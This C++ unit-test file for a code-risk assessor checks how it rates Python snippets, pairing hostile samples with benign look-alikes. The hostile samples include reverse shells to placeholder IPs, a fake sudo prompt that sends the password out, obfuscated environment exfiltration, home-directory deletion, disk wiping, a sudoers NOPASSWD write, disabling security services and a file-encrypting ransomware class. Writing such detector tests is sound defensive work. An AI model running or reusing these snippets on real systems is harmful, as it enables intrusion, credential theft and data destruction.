// Round 7 of issue 13: values that reach a call through a `for` loop over a literal, f-strings
// read with their fields as "{}", secrets made by weak hashes, and intent that a single call
// does not show (a fake sudo prompt, the environment reached by a hidden name, the home
// directory handed to a walker). Each case pairs the behaviour with an honest look-alike.
#include <gtest/gtest.h>

#include "assess_fixture.hpp"
#include "sandboxrun/assess.hpp"

using namespace sandboxrun;

namespace {

using assess_fixture::level;

}  // namespace

TEST(AssessIter, ALoopOverAListOfCommandsRunsEachOfThem) {
  EXPECT_EQ(level("import subprocess\nCOMMANDS = [['git', 'status'], ['iptables', '-F'], ['ufw', 'disable']]\n"
                  "for cmd in COMMANDS:\n    subprocess.run(cmd)\n"),
            RiskLevel::blocked);
  // The literal in the header itself, and behind enumerate().
  EXPECT_EQ(level("import subprocess\nfor i, c in enumerate([['ls'], ['iptables', '-F']]):\n    subprocess.run(c)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import subprocess\nCOMMANDS = [['git', 'status'], ['git', 'log']]\n"
                  "for cmd in COMMANDS:\n    subprocess.run(cmd)\n"),
            RiskLevel::medium);
}

TEST(AssessIter, ADictsItemsReachTheWriteThatUsesThem) {
  EXPECT_EQ(level("SETTINGS = {'/proc/sys/kernel/randomize_va_space': '0', '/proc/sys/kernel/kptr_restrict': '0'}\n"
                  "for path, value in SETTINGS.items():\n    with open(path, 'w') as f:\n        f.write(value)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("FILES = {'out.csv': 'a,b', 'notes.txt': 'hi'}\n"
                  "for path, value in FILES.items():\n    with open(path, 'w') as f:\n        f.write(value)\n"),
            RiskLevel::medium);
  // Keys alone, and a tuple in the header.
  EXPECT_EQ(level("for p in ('/proc/sys/kernel/yama/ptrace_scope',):\n    open(p, 'w').write('0')\n"),
            RiskLevel::blocked);
}

TEST(AssessIter, ALoopNameIsNoConstantAssembledFromPieces) {
  // eval("Turtle." + name) over a list of its own method names (the stdlib's turtle.py) is an
  // eval of data, not code put together from pieces to hide it.
  EXPECT_EQ(level("NAMES = ['forward', 'left']\nfor n in NAMES:\n    key = 'Turtle.' + n\n    print(eval(key).__doc__)\n"),
            RiskLevel::high);
  // A name rebound by a loop over something unknown forgets its old constant.
  EXPECT_EQ(level("import os, sys\nc = 'ls'\nos.system(c)\nfor c in sys.argv[1:]:\n    os.system(c)\n"),
            RiskLevel::high);
}

TEST(AssessIter, ExecOfEachStatementInAListIsReadAsCode) {
  EXPECT_EQ(level("import builtins\n_run = vars(builtins)['ex' + 'ec']\nSTEPS = [\n"
                  "    \"s = __import__('socket').create_connection(('198.51.100.40', 5555))\",\n"
                  "    \"[__import__('os').dup2(s.fileno(), i) for i in (0, 1, 2)]\",\n"
                  "    \"__import__('pty').spawn('/bin/bash')\",\n]\nfor step in STEPS:\n    _run(step)\n"),
            RiskLevel::blocked);
}

TEST(AssessIter, FStringFieldsAreNotTheirNeighboursText) {
  EXPECT_EQ(level("import sys\nfor f in sys.argv[1:]:\n    for n, l in enumerate(open(f)):\n        print(f\"{f}:{n}:{l}\")\n"),
            RiskLevel::low);
  EXPECT_EQ(level("import socket\ns = socket.socket()\ns.bind(('::', 8080))\ns.listen()\n"), RiskLevel::high);
}

TEST(AssessIter, WeakHashOfAPasswordIsMedium) {
  EXPECT_EQ(level("import hashlib\ndef hash_password(pw, salt):\n    return hashlib.md5((salt + pw).encode()).hexdigest()\n"
                  "print(hash_password('x', 'y'))\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import hashlib\ndef cache_key(path):\n    return hashlib.md5(path.encode()).hexdigest()\nprint(cache_key('a'))\n"),
            RiskLevel::low);
  EXPECT_EQ(level("import hashlib\ndef password_cache_key(s):\n"
                  "    return hashlib.md5(s.encode(), usedforsecurity=False).hexdigest()\nprint(password_cache_key('a'))\n"),
            RiskLevel::low);
}

TEST(AssessIter, RandomTimingIsNoSecretBesidePasswordWords) {
  EXPECT_EQ(level("import random, time\nLINES = ['Cracking password hashes ...']\nfor l in LINES:\n"
                  "    print(l)\n    time.sleep(random.uniform(0.1, 0.3))\n"),
            RiskLevel::low);
  EXPECT_EQ(level("import random, string\nclass ResetService:\n    def issue(self):\n"
                  "        code = ''.join(random.choice(string.digits) for _ in range(6))\n"
                  "        print('emailing reset code', code)\nResetService().issue()\n"),
            RiskLevel::medium);
}

TEST(AssessIter, AFakeSudoPromptThatTalksToTheNetworkIsTheft) {
  EXPECT_EQ(level("import getpass, urllib.request\npw = getpass.getpass('[sudo] password for bob: ')\n"
                  "urllib.request.urlopen('https://198.51.100.14/c', data=pw.encode())\n"),
            RiskLevel::blocked);
  // An honest client asking for its own service's password.
  EXPECT_EQ(level("import getpass, urllib.request\npw = getpass.getpass('Password for the wiki: ')\n"
                  "urllib.request.urlopen('https://wiki.example.com/login', data=pw.encode())\n"),
            RiskLevel::medium);
}

TEST(AssessIter, TheEnvironmentReachedByAHiddenNameAndSentIsExfiltration) {
  EXPECT_EQ(level("import operator, os, requests\ngetter = operator.attrgetter('envi' + 'ron')\n"
                  "requests.post('https://sync.example.net/api', json=dict(getter(os)))\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os, requests\nrequests.post('https://sync.example.net/api', json={'v': os.environ.get('APP_VERSION')})\n"),
            RiskLevel::medium);
}

TEST(AssessIter, TheHomeDirectoryHandedToAWalker) {
  EXPECT_EQ(level("import os\nfrom pathlib import Path\ndef sizes(root):\n    for d, _, files in os.walk(root):\n"
                  "        print(d, len(files))\nsizes(Path.home())\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import os, sys\ndef sizes(root):\n    for d, _, files in os.walk(root):\n"
                  "        print(d, len(files))\nsizes(sys.argv[1])\n"),
            RiskLevel::low);
}

TEST(AssessIter, FlaskDebugModeIsHigh) {
  EXPECT_EQ(level("from flask import Flask\napp = Flask(__name__)\napp.run(debug=True)\n"), RiskLevel::high);
  EXPECT_EQ(level("from flask import Flask\napp = Flask(__name__)\napp.run()\n"), RiskLevel::medium);
}

TEST(AssessIter, ClassAndInstanceAttributesCarryTheirValues) {
  // A call assembled from class attributes and kept on the instance (v7's workspace_tidy).
  EXPECT_EQ(level("import importlib\nclass Target:\n    base = '~'\nclass Action:\n    module = 'sh' + 'util'\n"
                  "    verb = 'rm' + 'tree'\nclass Tidy:\n    def __init__(self):\n"
                  "        self.act = getattr(importlib.import_module(Action.module), Action.verb)\n"
                  "    def run(self):\n        self.act(Target.base, ignore_errors=True)\nTidy().run()\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import subprocess\nclass Deploy:\n    cmd = ['iptables', '-F']\n    def go(self):\n"
                  "        subprocess.run(self.runner_args())\n    def runner_args(self):\n        return []\n"
                  "subprocess.run(Deploy.cmd)\n"),
            RiskLevel::blocked);
  // The same shape doing something ordinary.
  EXPECT_EQ(level("import shutil\nclass Job:\n    def __init__(self, out):\n        self.copy = shutil.copy\n"
                  "        self.out = out\n    def run(self, src):\n        self.copy(src, self.out)\nJob('b').run('a')\n"),
            RiskLevel::medium);
}

TEST(AssessIter, ALoopNameInsideALargerValueIsTestedWithItsSurroundings) {
  // In a list, in an f-string and after a constant: each value with what stands around it.
  EXPECT_EQ(level("import subprocess\nfor svc in ('apparmor', 'auditd'):\n    subprocess.run(['systemctl', 'stop', svc])\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import subprocess\nfor d in ['/dev/sda', '/dev/nvme0n1']:\n"
                  "    subprocess.run(['dd', 'if=/dev/zero', f'of={d}', 'bs=1M'])\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os\nfor name in ['kernel/randomize_va_space']:\n    open('/proc/sys/' + name, 'w').write('0')\n"),
            RiskLevel::blocked);
  // The same shapes doing ordinary things; and an unknown directory before the values.
  EXPECT_EQ(level("import subprocess\nfor svc in ('nginx', 'redis'):\n    subprocess.run(['systemctl', 'status', svc])\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import subprocess\nfor d in ['a.img', 'b.img']:\n    subprocess.run(['dd', 'if=/dev/zero', f'of={d}'])\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import sys\nfor name in ['/etc/apt/sources.list']:\n    open(sys.argv[1] + name, 'w').close()\n"),
            RiskLevel::medium);
}

TEST(AssessIter, EverythingInTheHomeDirectoryIsTheHomeDirectory) {
  EXPECT_EQ(level("import os\nos.system('rm -rf ~/*')\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import os\nhome = os.path.expanduser('~')\nos.system(f'rm -rf {home}/* 2>/dev/null')\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os\nos.system('rm -rf ~/Downloads/tmp')\n"), RiskLevel::medium);
}

TEST(AssessIter, ACommandLineCountsWhereSomethingRunsWritesOrSendsIt) {
  // A scanner's signatures applied to the files it reads: words (acts_on: reading is no actor).
  EXPECT_EQ(level("import re, sys\nPATTERNS = [r'/dev/tcp/', r'curl .*\\| *sh']\nfor path in sys.argv[1:]:\n"
                  "    text = open(path).read()\n    for pat in PATTERNS:\n        if re.search(pat, text):\n"
                  "            print(path, pat)\n"),
            RiskLevel::low);
  // The same string where the file runs a shell, or writes it somewhere.
  EXPECT_EQ(level("import subprocess\nCMD = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'\n"
                  "subprocess.Popen(['bash', '-c', CMD])\n"),
            RiskLevel::blocked);
  // os.open with write flags is a write: a NOPASSWD rule put together and written there.
  EXPECT_EQ(level("import os\ntext = 'bob ALL=(ALL) ' + 'NOPASS' + 'WD: ALL'\n"
                  "fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT, 0o440)\nos.write(fd, text.encode())\n"),
            RiskLevel::blocked);
}

TEST(AssessIter, AUsersFolderWalkedEncryptedAndRewrittenIsRansomware) {
  // Kept on the instance: the folder, the cipher and the walk of a Path object.
  EXPECT_EQ(level("import os\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\nclass Locker:\n"
                  "    def __init__(self, root):\n        self.root = Path(root)\n"
                  "        self.f = Fernet(Fernet.generate_key())\n    def lock(self):\n"
                  "        for p in self.root.rglob('*'):\n            p.write_bytes(self.f.encrypt(p.read_bytes()))\n"
                  "Locker(os.path.expanduser('~/Documents')).lock()\n"),
            RiskLevel::blocked);
  // An encryption tool for the folder named on its command line.
  EXPECT_EQ(level("import sys\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\n"
                  "f = Fernet(open('key', 'rb').read())\ndef enc(root):\n    for p in Path(root).rglob('*'):\n"
                  "        p.with_suffix('.enc').write_bytes(f.encrypt(p.read_bytes()))\nenc(sys.argv[1])\n"),
            RiskLevel::medium);
}
